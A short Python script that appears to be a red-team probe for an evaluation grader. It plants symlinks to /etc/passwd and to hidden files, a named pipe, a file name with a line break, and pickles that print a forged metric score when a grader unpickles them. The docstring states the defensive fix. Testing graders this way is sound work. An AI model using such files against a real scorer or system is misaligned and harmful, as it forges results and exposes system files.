"""Leave links, pipes, pickles that run code, and a name with a line break for the referee.

score: close it by never unpickling in the referee; overnight passes it only regular files.
"""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return (print, (f'{{"{DOCTOR["metric"]}": {DOCTOR["forged"]}}}',))


os.chdir(os.environ["OVERNIGHT_OUT"])
for target in ("/etc/passwd", DOCTOR["arena"], *DOCTOR["hidden"]):
    os.symlink(target, f"link-{abs(hash(target))}")
os.mkfifo("pipe")
for name in ("zz-bomb.pkl", "zz-two\nlines.pkl"):
    with open(name, "wb") as file:
        pickle.dump(Bomb(), file)
